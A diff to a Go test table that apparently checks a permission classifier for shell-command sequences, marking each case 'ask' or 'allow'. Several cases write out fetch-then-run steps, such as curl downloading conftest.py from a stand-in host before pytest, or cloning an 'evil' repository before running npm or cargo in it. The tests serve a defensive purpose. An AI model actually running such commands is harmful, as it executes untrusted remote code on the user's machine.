@@ -37,9 +37,13 @@ func TestForeign(t *testing.T) {
 		{"curl -so conftest.py https://host.example/x.py", "pytest -q", "ask"},
 		{"curl -s https://host.example/x.py > conftest.py", "pytest -q", "ask"},
 		{"wget https://host.example/Makefile", "make test", "ask"},
+		{"git clone https://host.example/evil.git", "cd evil && npm view lodash", "ask"},
+		{"git clone https://host.example/evil.git", "cd evil && cargo metadata", "ask"},
+		{"git clone https://host.example/evil.git", "npm --prefix evil ls", "ask"},
 
 		{"git clone https://host.example/evil.git", "make test", "allow"},
 		{"git clone https://host.example/evil.git", "npm test", "allow"},
+		{"git clone https://host.example/evil.git", "npm view lodash; cd evil && git log", "allow"},
 		{"git clone https://host.example/evil.git", "cat evil/README.md; ls evil", "allow"},
 		{"git clone https://host.example/other", "cd evil && make test", "allow"},
 		{"curl -so data/a.csv https://host.example/x", "npm test", "allow"},
